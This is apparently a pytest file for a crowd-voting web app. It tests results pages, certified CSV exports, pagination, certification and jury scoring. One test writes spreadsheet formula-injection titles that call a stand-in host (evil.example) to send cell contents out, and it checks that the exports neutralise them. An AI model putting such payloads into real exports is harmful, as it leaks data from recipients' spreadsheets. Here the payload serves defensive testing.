"""Results, winners, exports, certification and the jury, through HTTP as people use them."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from sqlalchemy import event
from sqlalchemy.engine import Engine
from sqlmodel import Session, select
from starlette.testclient import TestClient

from cocreate.accounts.models import User
from cocreate.brands.models import Membership, Role
from cocreate.campaigns.models import StageKind
from cocreate.clock import FrozenClock
from cocreate.csv_cells import FORMULA_STARTS, neutral_cell
from cocreate.ideas.models import Idea
from cocreate.jury.models import JuryScore
from cocreate.results.certify import certify_round
from cocreate.results.models import Announcement
from cocreate.results.rounds import campaign_rounds
from cocreate.results.verify import verify_round
from cocreate.voting.methods import Method
from cocreate.voting.models import Advancement, TieBreak, Visibility
from tests.campaigns_support import visible_text
from tests.conftest import log_in as first_log_in
from tests.conftest import post_form
from tests.results_support import DAY, T0, Contest, add_juror, make_contest, write_votes

CLOSED = T0 + 11 * DAY


def log_in(client: TestClient, user: User) -> None:
    client.cookies.clear()  # whoever was signed in before
    first_log_in(client, user)


@pytest.fixture(autouse=True)
def frozen(clock: FrozenClock) -> FrozenClock:
    clock.at = T0 + DAY
    return clock


def member(session: Session, contest: Contest, user: User, role: Role) -> User:
    session.add(Membership(brand_id=contest.brand.id, user_id=user.id, role=role))  # type: ignore[arg-type]
    session.commit()
    return user


def voted(session: Session, **kwargs: Any) -> Contest:
    """Votes: A 3, B 2, C 1, D and E none."""
    contest = make_contest(session, voters=3, **kwargs)
    v, (a, b, c, _d, _e) = contest.voters, contest.ideas
    write_votes(session, contest.round, [(v[0], a, 1), (v[1], a, 1), (v[2], a, 1)])
    write_votes(session, contest.round, [(v[0], b, 1), (v[1], b, 1), (v[0], c, 1)])
    return contest


@contextmanager
def statements(engine: Engine) -> Iterator[list[str]]:
    seen: list[str] = []

    def remember(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        seen.append(statement)

    event.listen(engine, "before_cursor_execute", remember)
    try:
        yield seen
    finally:
        event.remove(engine, "before_cursor_execute", remember)


def reads_the_vote_log(sql: list[str]) -> bool:
    return any(re.search(r"\bFROM votes\b|\bJOIN votes\b", s) for s in sql)


def test_live_results_show_counts_and_bars_without_reading_the_vote_log(
    client: TestClient, session: Session, app: Any
) -> None:
    voted(session)
    with statements(app.state.db.engine) as sql:
        page = client.get("/c/flavour/results")
    assert page.status_code == 200
    text = visible_text(page.text)
    assert "Live results" in text
    assert re.search(
        r"1 Idea A 3 3 2 Idea B 2 2 3 Idea C 1 1 4 tied Idea D 0 0 4 tied Idea E", text
    ), text
    assert '<meter min="0" max="3" value="3">' in page.text
    assert "style=" not in page.text  # the CSP forbids inline styles
    assert not reads_the_vote_log(sql), [s for s in sql if "votes" in s]


def test_hidden_results_stay_hidden_from_the_public_but_not_from_the_brand(
    client: TestClient, session: Session, make_user: Callable[..., User]
) -> None:
    contest = voted(session, visibility=Visibility.HIDDEN)
    page = client.get("/c/flavour/results")
    text = visible_text(page.text)
    assert "Results stay hidden until" in text
    assert "Idea A" not in text and "results-table" not in page.text
    marketer = member(session, contest, make_user(), Role.MARKETER)
    log_in(client, marketer)
    text = visible_text(client.get("/c/flavour/results").text)
    assert "Idea A 3" in text and "The public sees no results until they are certified" in text


def test_rank_visibility_shows_the_order_without_the_counts(
    client: TestClient, session: Session
) -> None:
    voted(session, visibility=Visibility.RANKS)
    page = client.get("/c/flavour/results")
    text = visible_text(page.text)
    assert re.search(r"1 Idea A 2 Idea B 3 Idea C", text), text
    assert "Votes" not in text and "votes counted" not in text


def test_certified_results_are_public_with_the_digest_and_exports(
    client: TestClient, session: Session, clock: FrozenClock
) -> None:
    contest = voted(session, visibility=Visibility.HIDDEN)
    assert client.get("/c/flavour/votes.csv?round=1").status_code == 404
    assert client.get("/c/flavour/results.csv?round=1").status_code == 404
    clock.at = CLOSED
    done = certify_round(session=session, round_=contest.round, now=CLOSED)
    page = client.get("/c/flavour/results?round=1")
    text = visible_text(page.text)
    assert "Certified results" in text and done.digest in text
    assert re.search(r"1 Idea A 3 .* goes on .*2 Idea B 2 .* goes on .*3 Idea C 1", text)
    assert "The top 2 ideas go on." in text
    assert "A tie at the cut is broken by earlier submission" in text

    log = client.get("/c/flavour/votes.csv?round=1")
    assert log.status_code == 200 and log.headers["content-type"].startswith("text/csv")
    assert "attachment" in log.headers["content-disposition"]
    header, body = log.text.split("\n", 1)
    assert header == "vote_id,voter,idea_id,period,weight,status,cast_at,withdrawn_at"
    assert hashlib.sha256(body.encode()).hexdigest() == done.digest
    assert len(body.splitlines()) == 6

    table = client.get("/c/flavour/results.csv?round=1").text.splitlines()
    assert table[0] == "position,rank,tied,idea_id,title,votes,points,score,advanced"
    assert table[1] == f"1,1,0,{contest.ideas[0].id},Idea A,3,3,3,yes"
    assert len(table) == 6


def test_exports_neutralise_titles_a_spreadsheet_would_run_and_stay_verifiable(
    client: TestClient, session: Session, clock: FrozenClock
) -> None:
    contest = make_contest(session, voters=2, ideas=len(FORMULA_STARTS))
    titles = {}
    for idea, start in zip(contest.ideas, FORMULA_STARTS, strict=True):
        idea.title = f'{start}HYPERLINK("http://evil.example/?"&A1,"Idea")'
        titles[idea.id] = idea.title
    session.add_all(contest.ideas)
    session.commit()
    v, ideas = contest.voters, contest.ideas
    write_votes(session, contest.round, [(v[0], ideas[0], 1), (v[1], ideas[0], 1)])
    clock.at = CLOSED
    done = certify_round(session=session, round_=contest.round, now=CLOSED)

    rows = list(csv.reader(io.StringIO(client.get("/c/flavour/results.csv?round=1").text)))
    assert rows[0][4] == "title" and len(rows) == 1 + len(FORMULA_STARTS)
    for row in rows[1:]:
        assert row[4] == "'" + titles[int(row[3])], row
    log = client.get("/c/flavour/votes.csv?round=1").text
    _header, body = log.split("\n", 1)
    assert hashlib.sha256(body.encode()).hexdigest() == done.digest
    assert all(neutral_cell(cell) == cell for row in csv.reader(io.StringIO(log)) for cell in row)
    info = campaign_rounds(session=session, campaign_id=contest.campaign.id or 0)[0]
    assert verify_round(session=session, info=info).ok
    session.expire_all()
    stored = {i.id: i.title for i in session.exec(select(Idea)).all()}
    assert all(stored[i] == t for i, t in titles.items())  # the data keeps what was typed


def test_results_paginate_and_bad_parameters_are_not_found(
    client: TestClient, session: Session
) -> None:
    make_contest(session, ideas=60)
    first = client.get("/c/flavour/results")
    assert "Page 1 of 2" in visible_text(first.text)
    second = client.get("/c/flavour/results?round=1&page=2")
    assert "Idea" in second.text and "Page 2 of 2" in visible_text(second.text)
    assert client.get("/c/flavour/results?round=9").status_code == 404
    assert client.get(f"/c/flavour/results?round={2**63}").status_code == 404
    # Malformed numbers are bad requests (cocreate.integers), as everywhere.
    assert client.get("/c/flavour/results?round=x").status_code == 400
    assert client.get("/c/flavour/results?round=%C2%B2").status_code == 400
    assert client.get("/c/flavour/results?page=%00").status_code == 400
    assert client.get("/c/nope/results").status_code == 404


def test_ranked_results_show_the_pairwise_matrix(client: TestClient, session: Session) -> None:
    contest = make_contest(session, voters=3, method=Method.RANKED, advancement_value=1)
    a, b, c = contest.ideas[:3]
    v = contest.voters
    write_votes(
        session,
        contest.round,
        [(v[0], a, 1), (v[0], b, 2), (v[1], b, 1), (v[1], a, 2), (v[2], a, 1), (v[2], c, 2)],
    )
    certify_round(session=session, round_=contest.round, now=CLOSED)
    text = visible_text(client.get("/c/flavour/results?round=1").text)
    assert "Head to head" in text and "Schulze method" in text
    assert "1. Idea A — 2 (2)" in text  # A over B: 2 voters; strongest path 2


def test_certification_from_the_console(
    client: TestClient,
    session: Session,
    make_user: Callable[..., User],
    clock: FrozenClock,
    run_jobs: Callable[[], None],
) -> None:
    contest = voted(session)
    marketer = member(session, contest, make_user(), Role.MARKETER)
    log_in(client, marketer)
    console = "/brands/crispy/campaigns/flavour/results"
    form = {"round_id": str(contest.round.id)}
    refused = post_form(client, console + "/certify", form, page=console)
    assert refused.status_code == 400
    assert "still open" in visible_text(refused.text)
    clock.at = CLOSED
    assert "Certify the results" in client.get(console).text
    done = post_form(client, console + "/certify", form, page=console)
    assert done.status_code == 303
    run_jobs()  # certification is a job now: run it, then read the page
    page = visible_text(client.get(console).text)
    assert "is certified. Digest:" in page and "verify-results flavour --round 1" in page
    assert "by " + marketer.display_name in page


def test_the_announcement_opens_the_winners_page_once_they_are_known(
    client: TestClient, session: Session, make_user: Callable[..., User], clock: FrozenClock
) -> None:
    contest = voted(session, advancement_value=1, later=())
    consumer = make_user()
    log_in(client, consumer)
    editor = "/brands/crispy/campaigns/flavour/announcement"
    assert client.get(editor).status_code == 403
    marketer = member(session, contest, make_user(), Role.MARKETER)
    log_in(client, marketer)
    saved = post_form(client, editor, {"body": "We have a **winner**!"}, page=editor)
    assert saved.status_code == 303
    stored = session.exec(select(Announcement)).one()
    assert stored.body == "We have a **winner**!" and stored.updated_by_id == marketer.id

    before = client.get("/c/flavour/winners")
    # Before the announcement stage opens the page says when the brand announces them.
    assert "will be announced on Mar 11, 2026" in visible_text(before.text)
    assert "<strong>winner</strong>" not in before.text
    clock.at = CLOSED
    certify_round(session=session, round_=contest.round, now=CLOSED)
    after = client.get("/c/flavour/winners")
    assert "<strong>winner</strong>" in after.text
    assert 'href="/c/flavour/winners"' in client.get("/c/flavour").text  # announcement stage
    assert "Idea A" in visible_text(after.text)


def test_the_results_page_is_in_french(client: TestClient, session: Session) -> None:
    voted(session)
    page = client.get("/c/flavour/results", headers={"accept-language": "fr"})
    text = visible_text(page.text)
    assert "Résultats" in text and "Les 2 meilleures idées continuent." in text


# --- The jury, through its pages -----------------------------------------------------------


@pytest.fixture
def jury_contest(session: Session, clock: FrozenClock) -> Contest:
    contest = make_contest(
        session,
        ideas=3,
        voters=2,
        advancement=Advancement.MIN_VOTES,
        advancement_value=1,
        later=(StageKind.JURY,),
    )
    v, (a, b, _c) = contest.voters, contest.ideas
    write_votes(session, contest.round, [(v[0], a, 1), (v[1], b, 1)])
    certify_round(session=session, round_=contest.round, now=CLOSED)
    clock.at = T0 + 12 * DAY
    return contest


def test_a_marketer_defines_criteria_and_a_juror_scores(
    client: TestClient, session: Session, jury_contest: Contest, make_user: Callable[..., User]
) -> None:
    marketer = member(session, jury_contest, make_user(), Role.MARKETER)
    juror = add_juror(session, jury_contest.brand, "juror@example.com")
    jury_page = "/brands/crispy/campaigns/flavour/jury"
    stage_id = str(jury_contest.jury_stage.id)
    log_in(client, marketer)
    bad = post_form(
        client,
        jury_page + "/criteria",
        {"stage_id": stage_id, "name": "Taste", "weight": "0"},
        page=jury_page,
    )
    assert bad.status_code == 400 and "Give a weight from 1 to 100." in bad.text
    for name, weight in (("Taste", "3"), ("Looks", "1")):
        added = post_form(
            client,
            jury_page + "/criteria",
            {"stage_id": stage_id, "name": name, "weight": weight},
            page=jury_page,
        )
        assert added.status_code == 303
    text = visible_text(client.get(jury_page).text)
    assert "Taste 3 (75 %)" in text and "0 / 4" in text  # 2 ideas x 2 criteria

    log_in(client, juror)
    text = visible_text(client.get(jury_page).text)
    assert "Your scores" in text and "Taste" in text
    a, b, _c = jury_contest.ideas
    form_page = f"{jury_page}/score?stage={stage_id}&idea={a.id}"
    page = client.get(form_page)
    assert page.status_code == 200 and "The <strong>A</strong> flavour." in page.text
    taste, looks = (c for c in re.findall(r'name="(score-\d+)"', page.text))
    wrong = post_form(
        client,
        jury_page + "/score",
        {"stage_id": stage_id, "idea_id": str(a.id), taste: "12", looks: "3"},
        page=form_page,
    )
    assert wrong.status_code == 400 and "Give a score from 0 to 10." in wrong.text
    saved = post_form(
        client,
        jury_page + "/score",
        {"stage_id": stage_id, "idea_id": str(a.id), taste: "8", looks: "3"},
        page=form_page,
    )
    assert saved.status_code == 303
    assert saved.headers["location"].endswith(f"idea={b.id}")  # on to the next idea
    assert sorted(s.score for s in session.exec(select(JuryScore)).all()) == [3, 8]
    log_in(client, marketer)
    assert "2 / 4" in visible_text(client.get(jury_page).text)


JURY_PAGE = "/brands/crispy/campaigns/flavour/jury"


def test_the_marketer_closes_the_jury_scoring_and_its_pick_wins(
    client: TestClient,
    session: Session,
    jury_contest: Contest,
    make_user: Callable[..., User],
    clock: FrozenClock,
) -> None:
    jury_page, stage_id = JURY_PAGE, str(jury_contest.jury_stage.id)
    a, b, _c = jury_contest.ideas
    juror = add_juror(session, jury_contest.brand, "juror@example.com")
    marketer = member(session, jury_contest, make_user(), Role.MARKETER)
    log_in(client, marketer)
    early = post_form(client, jury_page + "/finalise", {"stage_id": stage_id}, page=jury_page)
    assert early.status_code == 400 and "Define at least one criterion first." in early.text
    for path, data in (
        ("/criteria", {"stage_id": stage_id, "name": "Taste", "weight": "1"}),
        ("/settings", {"stage_id": stage_id, "picks": "1"}),
    ):
        assert post_form(client, jury_page + path, data, page=jury_page).status_code == 303
    log_in(client, juror)
    for idea, value in ((a, "4"), (b, "9")):
        form_page = f"{jury_page}/score?stage={stage_id}&idea={idea.id}"
        (taste,) = re.findall(r'name="(score-\d+)"', client.get(form_page).text)
        sent = {"stage_id": stage_id, "idea_id": str(idea.id), taste: value}
        assert post_form(client, jury_page + "/score", sent, page=form_page).status_code == 303
    log_in(client, marketer)
    closed = post_form(client, jury_page + "/finalise", {"stage_id": stage_id}, page=jury_page)
    assert closed.status_code == 303
    # Decided, but public only once the brand's announcement stage opens (issue 19); the
    # brand sees a preview meanwhile.
    staff_view = visible_text(client.get("/c/flavour/winners").text)
    assert "Preview for Crispy" in staff_view and "Idea B" in staff_view
    client.cookies.clear()
    assert "Idea B" not in visible_text(client.get("/c/flavour/winners").text)
    clock.at = jury_contest.stages[-1].opens_at
    assert "Idea B" in visible_text(client.get("/c/flavour/winners").text)
    assert "Idea A" not in visible_text(client.get("/c/flavour/winners").text)
    log_in(client, marketer)
    again = post_form(client, jury_page + "/finalise", {"stage_id": stage_id}, page=jury_page)
    assert again.status_code == 400 and "already closed" in again.text


def test_a_juror_of_another_brand_cannot_score(
    client: TestClient, session: Session, jury_contest: Contest
) -> None:
    other = make_contest(
        session, slug="other", brand_slug="rival", ideas=1, later=(StageKind.JURY,)
    )
    outsider = add_juror(session, other.brand, "outsider@example.com")
    log_in(client, outsider)
    jury_page = "/brands/crispy/campaigns/flavour/jury"
    a = jury_contest.ideas[0]
    assert client.get(jury_page).status_code == 403
    assert client.get(f"{jury_page}/score?idea={a.id}").status_code == 403
    own = "/brands/rival/campaigns/other/jury"
    refused = post_form(
        client,
        jury_page + "/score",
        {"stage_id": str(jury_contest.jury_stage.id), "idea_id": str(a.id)},
        page=own,
    )
    assert refused.status_code == 403
    # Through their own brand's address, another brand's campaign or idea is not found.
    assert client.get("/brands/rival/campaigns/flavour/jury").status_code == 404
    assert client.get(f"{own}/score?stage={other.jury_stage.id}&idea={a.id}").status_code == 404
    assert session.exec(select(JuryScore)).all() == []


def test_the_jury_decides_a_tie_at_the_cut(
    client: TestClient, session: Session, make_user: Callable[..., User]
) -> None:
    contest = make_contest(session, voters=2, advancement_value=1, tie_break=TieBreak.JURY)
    v, (a, b, *_rest) = contest.voters, contest.ideas
    write_votes(session, contest.round, [(v[0], a, 1), (v[1], b, 1)])
    certify_round(session=session, round_=contest.round, now=CLOSED)
    juror = add_juror(session, contest.brand, "juror@example.com")
    log_in(client, juror)
    jury_page = "/brands/crispy/campaigns/flavour/jury"
    text = visible_text(client.get(jury_page).text)
    assert "Stage 1: choose 1 idea to go on." in text
    both = post_form(
        client,
        jury_page + "/decide",
        {"round_id": str(contest.round.id), "idea": [str(a.id), str(b.id)]},
        page=jury_page,
    )
    assert both.status_code == 400 and "Choose exactly 1 idea." in both.text
    done = post_form(
        client,
        jury_page + "/decide",
        {"round_id": str(contest.round.id), "idea": str(b.id)},
        page=jury_page,
    )
    assert done.status_code == 303
    text = visible_text(client.get("/c/flavour/results?round=1").text)
    assert re.search(r"Idea B 1 .* goes on", text)
